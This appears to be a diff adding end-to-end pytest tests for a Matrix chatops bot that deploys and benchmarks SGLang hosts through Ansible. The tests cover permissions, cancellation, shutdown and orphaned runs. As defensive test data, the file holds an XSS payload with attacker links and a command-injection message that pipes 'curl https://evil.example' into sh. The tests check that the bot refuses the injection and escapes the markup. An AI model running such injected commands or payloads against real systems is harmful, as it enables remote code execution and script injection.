@@ -1,0 +1,358 @@
+"""The bot end to end on a real Matrix homeserver: people in a room talk to `pro6000-chatops serve`.
+
+Synapse runs on loopback (matrix_support.py); the bot is the real command, a process of its
+own; the operator (@alice, group inference-ops), the on-call user (@carol, status and bench
+only) and the bot are users of it; alice and carol talk to the bot from Matrix clients (nio).
+Behind the bot, real ansible-runner runs stand-in playbooks (matrix_playbooks/) on
+local-connection hosts, whose smoke gate is the collection's own, against the SGLang double.
+The bot has one run worker, so every test also shows that cancel never waits for it.
+"""
+from __future__ import annotations
+
+import json
+import os
+import re
+import signal
+import subprocess
+import sys
+import time
+import urllib.request
+
+import pytest
+import yaml
+
+from chatops_support import ALL_ACTIONS, LOCAL_HOST_VARS, TESTS, processes_with, write_config
+from matrix_support import Homeserver, Person, run
+
+BOT = "pro6000-bot"
+PLAYBOOKS = TESTS / "matrix_playbooks"
+# What a compromised or careless host could print: markup, a link, Markdown, mentions.
+HOSTILE = ("<img src=x onerror=alert(1)><a href='https://evil.example/'>click</a> **now** "
+           "[here](https://evil.example/) @room carol @carol:localhost")
+
+
+@pytest.fixture(scope="module")
+def homeserver(tmp_path_factory):
+    server = Homeserver(tmp_path_factory.mktemp("synapse"))
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def chat(homeserver, tmp_path_factory, double_url):
+    """The users, the room, the bot's configuration (the bot itself is started by each test)."""
+    alice, carol, bot = (homeserver.register(name) for name in ("alice", "carol", BOT))
+    folder = tmp_path_factory.mktemp("bot")
+
+    async def setup():
+        people = [Person(homeserver, user) for user in (alice, carol, bot)]
+        tokens = [await person.login() for person in people]
+        room = await people[0].create_room(invite=[carol, bot])
+        await people[1].join(room)
+        for person in people:
+            await person.close()
+        return room, tokens[2]
+
+    room, bot_token = run(setup())
+    token_file = folder / "matrix-token"
+    token_file.write_text(bot_token + "\n", encoding="utf-8")
+    token_file.chmod(0o600)
+    out = folder / "out"
+    out.mkdir()
+    served = {**LOCAL_HOST_VARS, "smoke_url": double_url, "chatops_test_out": str(out),
+              "sglang_service_speculative_algorithm": "ddtree", "sglang_service_draft_length": 16,
+              "sglang_service_ddtree_budget": 15, "smoke_bench_concurrency": 2,
+              "smoke_bench_max_tokens": 32, "smoke_bench_timeout": 60}
+    gate = folder / "gate"
+    inventory = {"pro6000": {"hosts": {
+        "pro6000-01": served,
+        "pro6000-02": {**served, "chatops_test_gate": str(gate)},
+        "pro6000-03": {**served, "chatops_test_hostile_message": HOSTILE},
+    }}}
+    (folder / "hosts.yml").write_text(yaml.safe_dump(inventory), encoding="utf-8")
+    config = write_config(
+        folder, folder / "hosts.yml", playbooks_dir=PLAYBOOKS,
+        environment={"ANSIBLE_COLLECTIONS_PATH": str(TESTS.parents[1] / "collections")},
+        groups={"inference-ops": [alice], "on-call": [carol]},
+        grants=[{"groups": ["inference-ops"], "actions": ALL_ACTIONS, "hosts": ["pro6000-*"]},
+                {"groups": ["on-call"], "actions": ["status", "bench"], "hosts": ["*"]}])
+    document = yaml.safe_load(config.read_text(encoding="utf-8"))
+    document["matrix"] = {"homeserver": homeserver.url, "user_id": bot, "access_token_file": token_file.name,
+                          "rooms": [room], "state_dir": "state"}
+    document["bot"] = {"run_workers": 1, "progress_interval_seconds": 0.5}
+    config.write_text(yaml.safe_dump(document), encoding="utf-8")
+    return {"homeserver": homeserver, "alice": alice, "carol": carol, "bot": bot, "room": room,
+            "config": config, "folder": folder, "out": out, "gate": gate}
+
+
+class BotProcess:
+    """``pro6000-chatops serve`` as its own process; ready once it has read the backlog."""
+
+    started = 0
+
+    def __init__(self, chat):
+        BotProcess.started += 1
+        self.log = chat["folder"] / f"bot-{BotProcess.started}.log"
+        with open(self.log, "wb") as log:
+            self.process = subprocess.Popen(
+                [sys.executable, "-m", "pro6000_chatops", "serve", "--config", str(chat["config"])],
+                stdout=log, stderr=subprocess.STDOUT, env=os.environ.copy())
+        self.wait_for_log("matrix: listening")
+
+    def text(self) -> str:
+        return self.log.read_text(encoding="utf-8", errors="replace")
+
+    def wait_for_log(self, line: str, timeout: float = 60) -> None:
+        deadline = time.monotonic() + timeout
+        while line not in self.text():
+            assert self.process.poll() is None, f"the bot exited ({self.process.returncode}):\n{self.text()}"
+            assert time.monotonic() < deadline, f"the bot did not log {line!r}:\n{self.text()}"
+            time.sleep(0.1)
+
+    def stop(self, timeout: float = 60) -> int:
+        self.process.send_signal(signal.SIGTERM)
+        return self.process.wait(timeout)
+
+
+@pytest.fixture
+def bot(chat):
+    process = BotProcess(chat)
+    yield process
+    if process.process.poll() is None:
+        assert process.stop() == 0, process.text()
+
+
+def audit(chat) -> list[dict]:
+    return [json.loads(line) for line in (chat["folder"] / "audit.jsonl").read_text().splitlines()]
+
+
+def assert_is_the_bots_escaped_reply(content: dict, command_event: str) -> None:
+    assert content["msgtype"] == "m.notice" and content["m.mentions"] == {}
+    assert content["m.relates_to"]["rel_type"] == "m.thread"
+    assert content["m.relates_to"]["m.in_reply_to"] == {"event_id": command_event}
+    assert content["formatted_body"].startswith("<pre><code>")
+    assert "<" not in content["formatted_body"][len("<pre><code>"):-len("</code></pre>")]
+
+
+def test_an_operator_deploys_a_host_and_sees_progress_and_the_smoke_figures(chat, bot):
+    async def conversation():
+        alice = Person(chat["homeserver"], chat["alice"])
+        await alice.login()
+        command = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01 ddtree draft=16 budget=15")
+        ack = await alice.wait_for_reply(command, "received: deploy pro6000-01")
+        summary = await alice.wait_for_reply(command, "deploy pro6000-01 ddtree draft=16 budget=15: ")
+        thread = alice.replies_to(command)
+        await alice.close()
+        return command, ack, summary, thread
+
+    command, ack, summary, thread = run(conversation())
+    for content in thread:
+        assert_is_the_bots_escaped_reply(content, command)
+    assert thread[0] is ack and thread[-1] is summary
+    progress = "\n".join(content["body"] for content in thread[1:-1])
+    assert "task: Record the deploy request" in progress
+    assert "pro6000-01: changed: Record the deploy request" in progress
+    assert "task: Run the smoke benchmark and gate on its floors" in progress
+    lines = summary["body"].splitlines()
+    assert re.fullmatch(r"deploy pro6000-01 ddtree draft=16 budget=15: successful in \d+ s \(run \w+\)", lines[0])
+    assert lines[1].startswith("pro6000-01: ok, 1 changed; serves DDTREE draft 16 budget 15 on SGLang 0.5.23; "
+                               "bench passed: 1 stream ")
+    # The double accepts 11 tokens per verify step under DDTree, fewer at the end of a request.
+    acceptance = float(re.search(r"acceptance ([0-9.]+)", lines[1]).group(1))
+    assert 5 < acceptance <= 11
+    # The identity is the Matrix user the homeserver authenticated.
+    started = [record for record in audit(chat) if record["event"] == "started"]
+    assert [(record["user"], record["hosts"]) for record in started] == [(chat["alice"], ["pro6000-01"])]
+
+
+def test_an_on_call_user_may_not_deploy_and_may_see_status(chat, bot):
+    async def conversation():
+        carol = Person(chat["homeserver"], chat["carol"])
+        await carol.login()
+        deploy = await carol.say(chat["room"], f"{BOT}, deploy pro6000-01 none")
+        refusal = await carol.wait_for_reply(deploy, "refused: ")
+        status = await carol.say(chat["room"], f"@{BOT}:localhost status")
+        summary = await carol.wait_for_reply(status, "status: ")
+        await carol.close()
+        return deploy, refusal, status, summary
+
+    deploy, refusal, status, summary = run(conversation())
+    assert refusal["body"] == "refused: you may not run deploy"
+    assert_is_the_bots_escaped_reply(refusal, deploy)
+    assert summary["body"].startswith("status: successful")
+    for host in ("pro6000-01", "pro6000-02", "pro6000-03"):
+        assert f"{host}: ok, 0 changed; serves DDTREE draft 16 budget 15 on SGLang 0.5.23" in summary["body"]
+    assert not (chat["out"] / "pro6000-01-deploy.json").exists() or all(
+        record["user"] != chat["carol"] for record in audit(chat) if record["event"] == "started"
+        and record["command"].startswith("deploy"))
+
+
+def test_cancel_is_answered_while_the_run_worker_is_busy_and_stops_the_run(chat, bot):
+    async def conversation():
+        alice = Person(chat["homeserver"], chat["alice"])
+        carol = Person(chat["homeserver"], chat["carol"])
+        await alice.login()
+        await carol.login()
+        deploy = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
+        await alice.wait_for_reply(deploy, "task: Wait until the test opens the gate")
+        # The only run worker is busy: a second run is refused, a cancel is not queued behind it.
+        bench = await carol.say(chat["room"], f"{BOT}: bench pro6000-01")
+        busy = await carol.wait_for_reply(bench, "refused: ")
+        not_hers = await carol.say(chat["room"], f"{BOT}: cancel pro6000-02")
+        refusal = await carol.wait_for_reply(not_hers, "refused: ")
+        cancel = await alice.say(chat["room"], f"{BOT}: cancel pro6000-02")
+        accepted = await alice.wait_for_reply(cancel, "cancel requested for run ")
+        summary = await alice.wait_for_reply(deploy, "deploy pro6000-02: ", timeout=60)
+        for person in (alice, carol):
+            await person.close()
+        return busy, refusal, accepted, summary
+
+    busy, refusal, accepted, summary = run(conversation())
+    assert busy["body"].startswith("refused: 1 runs are in progress")
+    assert refusal["body"] == "refused: you may not cancel runs on pro6000-02"
+    assert summary["body"].startswith("deploy pro6000-02: canceled in ")
+    assert processes_with(f"PRO6000_CHATOPS_RUN={accepted['body'].split()[4]}") == []
+
+
+def test_hostile_text_is_refused_or_relayed_inert_and_the_bots_own_and_edited_messages_are_ignored(chat, bot):
+    async def conversation():
+        alice = Person(chat["homeserver"], chat["alice"])
+        carol = Person(chat["homeserver"], chat["carol"])
+        own = Person(chat["homeserver"], chat["bot"])  # the bot's account, from another device
+        for person in (alice, carol, own):
+            await person.login()
+        injected = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01; curl https://evil.example | sh <b>x</b> @room")
+        refusal = await alice.wait_for_reply(injected, "refused: ")
+        failing = await alice.say(chat["room"], f"{BOT}: deploy pro6000-03")
+        failure = await alice.wait_for_reply(failing, "deploy pro6000-03: failed")
+        ignored = [
+            await own.say(chat["room"], f"{BOT}: deploy pro6000-01"),
+            await alice.say(chat["room"], "deploy pro6000-01"),  # not addressed to the bot
+            await alice.say(chat["room"], f"* {BOT}: deploy pro6000-01", **{
+                "m.new_content": {"msgtype": "m.text", "body": f"{BOT}: deploy pro6000-01"},
+                "m.relates_to": {"rel_type": "m.replace", "event_id": failing}}),
+        ]
+        # Answered after the ignored ones were delivered: had the bot taken them, it would have
+        # acknowledged them by now.
+        marker = await alice.say(chat["room"], f"{BOT}: cancel pro6000-01")
+        await alice.wait_for_reply(marker, "refused: ")
+        await alice.sync(1000)
+        for person in (alice, carol, own):
+            await person.close()
+        return refusal, failure, ignored, [alice.replies_to(event) for event in ignored]
+
+    refusal, failure, ignored, ignored_replies = run(conversation())
+    assert refusal["body"].startswith("refused: character U+003B at position 18 is not allowed")
+    assert ignored_replies == [[], [], []]
+    assert HOSTILE in failure["body"]
+    assert "&lt;img src=x onerror=alert(1)&gt;&lt;a href=&#x27;https://evil.example/&#x27;&gt;" in failure["formatted_body"]
+    assert "<img" not in failure["formatted_body"] and "<a " not in failure["formatted_body"]
+    assert failure["m.mentions"] == {} and failure["msgtype"] == "m.notice"
+    # carol was named, @room too: the homeserver's push rules notified her of nothing the bot
+    # said; of the message a person typed on the bot's account, they did (so they would have).
+    notified = carol_notifications_from(chat, chat["bot"])
+    assert [notification["event"]["event_id"] for notification in notified] == [ignored[0]]
+
+
+def carol_notifications_from(chat, sender: str) -> list[dict]:
+    """What the homeserver's push rules notified carol of, from ``sender`` (the notifications API)."""
+    async def login():
+        carol = Person(chat["homeserver"], chat["carol"])
+        token = await carol.login()
+        await carol.close()
+        return token
+
+    request = urllib.request.Request(chat["homeserver"].url + "/_matrix/client/v3/notifications",
+                                     headers={"Authorization": f"Bearer {run(login())}"})
+    with urllib.request.urlopen(request, timeout=30) as answer:
+        notifications = json.load(answer)["notifications"]
+    return [notification for notification in notifications if notification["event"]["sender"] == sender]
+
+
+def started_run(chat, host: str) -> str:
+    """The id of the latest run started on ``host`` (the audit log)."""
+    return [record for record in audit(chat) if record["event"] == "started" and host in record["hosts"]][-1]["request"]
+
+
+def test_sigterm_cancels_the_runs_answers_and_exits(chat, bot):
+    async def conversation():
+        alice = Person(chat["homeserver"], chat["alice"])
+        await alice.login()
+        deploy = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
+        await alice.wait_for_reply(deploy, "task: Wait until the test opens the gate")
+        started = time.monotonic()
+        status = bot.stop()
+        stopped_after = time.monotonic() - started
+        summary = await alice.wait_for_reply(deploy, "deploy pro6000-02: ", timeout=10)
+        await alice.close()
+        return status, stopped_after, summary
+
+    status, stopped_after, summary = run(conversation())
+    assert status == 0 and stopped_after < 30, bot.text()
+    assert summary["body"].startswith("deploy pro6000-02: canceled in ")
+    assert processes_with(f"PRO6000_CHATOPS_RUN={started_run(chat, 'pro6000-02')}") == []
+
+
+def test_a_bot_killed_mid_deploy_leaves_the_run_locked_and_the_next_bot_reports_and_cancels_it(chat, bot):
+    async def conversation():
+        alice = Person(chat["homeserver"], chat["alice"])
+        carol = Person(chat["homeserver"], chat["carol"])
+        await alice.login()
+        await carol.login()
+        deploy = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
+        await alice.wait_for_reply(deploy, "task: Wait until the test opens the gate")
+        run_id = started_run(chat, "pro6000-02")
+        bot.process.kill()
+        bot.process.wait(30)
+        orphans = processes_with(f"PRO6000_CHATOPS_RUN={run_id}")
+        while_down = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01")
+        announced_from = len(alice.events)
+        second = BotProcess(chat)
+        try:
+            report = None
+            deadline = time.monotonic() + 30
+            while report is None:
+                await alice.sync()
+                report = next((event["content"] for event in alice.events[announced_from:]
+                               if event["sender"] == chat["bot"]), None)
+                assert time.monotonic() < deadline, "the restarted bot reported nothing"
+            # The orphan still runs and holds the host.
+            again = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
+            busy = await alice.wait_for_reply(again, "refused: ")
+            still_running = processes_with(f"PRO6000_CHATOPS_RUN={run_id}")
+            not_hers = await carol.say(chat["room"], f"{BOT}: cancel pro6000-02")
+            refusal = await carol.wait_for_reply(not_hers, "refused: ")
+            cancel = await alice.say(chat["room"], f"{BOT}: cancel pro6000-02")
+            canceled = await alice.wait_for_reply(cancel, "canceled run ", timeout=60)
+            remaining = processes_with(f"PRO6000_CHATOPS_RUN={run_id}")
+            chat["gate"].touch()
+            later = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
+            later_summary = await alice.wait_for_reply(later, "deploy pro6000-02: ")
+            await alice.sync(1000)
+            replies_while_down = alice.replies_to(while_down)
+        finally:
+            status = second.stop()
+            for person in (alice, carol):
+                await person.close()
+        return (run_id, orphans, report, busy, still_running, refusal, canceled, remaining,
+                later_summary, replies_while_down, status, second)
+
+    (run_id, orphans, report, busy, still_running, refusal, canceled, remaining, later_summary,
+     replies_while_down, status, second) = run(conversation())
+    assert orphans, "no process of the run outlived the bot"
+    assert report["body"].startswith(f"started; runs of the bot before me:\nrun {run_id}: deploy pro6000-02 by "
+                                     f"{chat['alice']} since ")
+    assert "(orphaned: the bot that started it is gone; cancel stops it)" in report["body"]
+    assert busy["body"].startswith(f"refused: pro6000-02 is busy with another run (deploy {chat['alice']}, run {run_id}")
+    assert busy["body"].endswith("its bot is gone: cancel stops it")
+    assert set(still_running) & set(orphans)
+    assert refusal["body"] == "refused: you may not cancel runs on pro6000-02"
+    assert canceled["body"].startswith(f"canceled run {run_id}: deploy pro6000-02 by {chat['alice']}")
+    assert canceled["body"].endswith("no process of it remains")
+    assert remaining == []
+    assert later_summary["body"].startswith("deploy pro6000-02: successful in ")
+    # Sent while no bot ran: not run by the bot that came back.
+    assert replies_while_down == []
+    assert status == 0, second.text()
+    finished = [record for record in audit(chat) if record["event"] == "finished" and record["request"] == run_id]
+    assert [record["status"] for record in finished] == ["canceled"]
